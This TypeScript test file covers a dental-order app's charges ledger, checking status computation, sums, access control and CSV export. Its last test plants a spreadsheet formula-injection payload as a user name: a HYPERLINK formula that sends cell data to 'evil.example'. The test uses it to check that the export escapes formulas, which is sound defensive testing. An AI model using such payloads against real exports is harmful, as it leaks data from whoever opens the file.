import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { readsAsFormula, spreadsheetCells } from '../../../test/support/spreadsheet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { approvableOrders } from '../../../test/support/server/approvable-orders';
import { bearer, json, startTestApp, type TestApp } from '../../../test/support/server/test-app';
import { testDatabaseTargets } from '../../../test/support/server/test-database';
import type { ChargeLedger } from '../../contract/charges.contract';
import { addDays, chargeStatusOn } from '../../domain/payments/charge-plan';

describe.each(testDatabaseTargets())('"Financeiro": the charges of every order on $name', (target) => {
  let t: TestApp;
  let dentista: string;
  let kol: string;
  let atendente: string;
  let orders: string[];
  beforeAll(async () => {
    t = await startTestApp(target);
    dentista = await t.login('dentista@demo.com.br');
    kol = await t.login('kol@demo.com.br');
    atendente = await t.login('atendente@demo.com.br');
    orders = await approvableOrders(t.db, 'dentista@demo.com.br', 2, new Date('2026-11-21T12:00:00Z'), randomUUID);
    for (const id of orders) expect((await t.app.inject({ method: 'POST', url: `/api/orders/${id}/approve`, headers: bearer(dentista) })).statusCode).toBe(200);
  });
  afterAll(() => t.close());

  const ledger = async (token: string, query = '') => {
    const res = await t.app.inject({ method: 'GET', url: `/api/${token === atendente ? 'admin/' : ''}charges${query}`, headers: bearer(token) });
    expect(res.statusCode).toBe(200);
    return json<ChargeLedger>(res);
  };

  it('says each charge’s status as the domain does, whatever its dates, paid or cancelled, and sums them by status', async () => {
    const ids = (await t.db.selectFrom('charges').select('id').where('order_id', 'in', orders).execute()).map((r) => r.id);
    const instant = fc.option(fc.constant(new Date('2026-11-20T15:00:00Z')), { nil: null });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ dueIn: fc.integer({ min: -40, max: 40 }), paidAt: instant, cancelledAt: instant }), { minLength: ids.length, maxLength: ids.length }),
        async (states) => {
          for (const [i, s] of states.entries())
            await t.db
              .updateTable('charges')
              .set({ due_date: addDays('2026-11-21', s.dueIn), paid_at: s.paidAt, cancelled_at: s.paidAt ? null : s.cancelledAt })
              .where('id', '=', ids[i]!)
              .execute();
          const { items, sums } = await ledger(dentista, '?limit=100');
          const mine = items.filter((l) => ids.includes(l.id));
          expect(mine).toHaveLength(ids.length);
          for (const line of mine) {
            const s = states[ids.indexOf(line.id)]!;
            const paidAt = s.paidAt?.toISOString() ?? null;
            expect(line.status).toBe(
              chargeStatusOn({ dueDate: addDays('2026-11-21', s.dueIn), paidAt, cancelledAt: paidAt ? null : (s.cancelledAt?.toISOString() ?? null) }, '2026-11-21'),
            );
          }
          const sumOf = (status: string) => items.filter((l) => l.status === status).reduce((sum, l) => sum + l.amountCents, 0);
          expect(sums).toEqual({ overdueCents: sumOf('OVERDUE'), openCents: sumOf('OPEN'), paidCents: sumOf('PAID') });
          // Overdue first, then open by due date, then paid, then cancelled.
          const rank = { OVERDUE: 0, OPEN: 1, PAID: 2, CANCELLED: 3 } as const;
          const ranks = items.map((l) => rank[l.status]);
          expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
          const open = items.filter((l) => l.status === 'OPEN').map((l) => l.dueDate);
          expect(open).toEqual([...open].sort());
        },
      ),
      { numRuns: 15 },
    );
  });

  it('shows a dentist her own charges only, filters by status, and gives the staff everyone’s with a CSV', async () => {
    expect((await ledger(kol)).items.filter((l) => orders.includes(l.orderId))).toEqual([]);
    await t.db.updateTable('charges').set({ paid_at: null, cancelled_at: null, due_date: '2026-11-01' }).where('order_id', 'in', orders).execute();
    const overdue = await ledger(dentista, '?status=OVERDUE');
    expect(overdue.items.length).toBeGreaterThan(0);
    expect(overdue.items.every((l) => l.status === 'OVERDUE')).toBe(true);
    // The sums are of all her charges, whatever the filter.
    expect(overdue.sums).toEqual((await ledger(dentista)).sums);
    const staff = await ledger(atendente, '?status=OVERDUE&limit=100');
    expect(staff.items.map((l) => l.id)).toEqual(expect.arrayContaining(overdue.items.map((l) => l.id)));
    const csv = await t.app.inject({ method: 'GET', url: '/api/admin/charges/export?status=OVERDUE', headers: bearer(atendente) });
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('Pedido;Dentista;Cobrança;Condição;Vencimento;Situação;Valor (R$);Pago em;A devolver');
    expect(lines).toHaveLength(staff.total + 1);
    expect(lines[1]).toMatch(/^\d+;Ana Beatriz Souza;Pagamento à vista;Pix;01\/11\/2026;Vencida;\d+,\d{2};;Não$/);
    expect(csv.body).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    // The dentist has no staff ledger.
    expect((await t.app.inject({ method: 'GET', url: '/api/admin/charges', headers: bearer(dentista) })).statusCode).toBe(403);
  });

  it('writes no cell of the CSV a spreadsheet would run as a formula, whatever a dentist is called', async () => {
    const dentistId = (await t.db.selectFrom('users').select('id').where('email', '=', 'dentista@demo.com.br').executeTakeFirstOrThrow()).id;
    const name = '=HYPERLINK("http://evil.example/?d="&A1;"Ver")';
    await t.db.updateTable('users').set({ name }).where('id', '=', dentistId).execute();
    try {
      const csv = await t.app.inject({ method: 'GET', url: '/api/admin/charges/export', headers: bearer(atendente) });
      const cells = spreadsheetCells(csv.body);
      expect(cells.flat().filter(readsAsFormula)).toEqual([]);
      expect(cells.some((row) => row[1] === `'${name}`)).toBe(true);
    } finally {
      await t.db.updateTable('users').set({ name: 'Ana Beatriz Souza' }).where('id', '=', dentistId).execute();
    }
  });
});
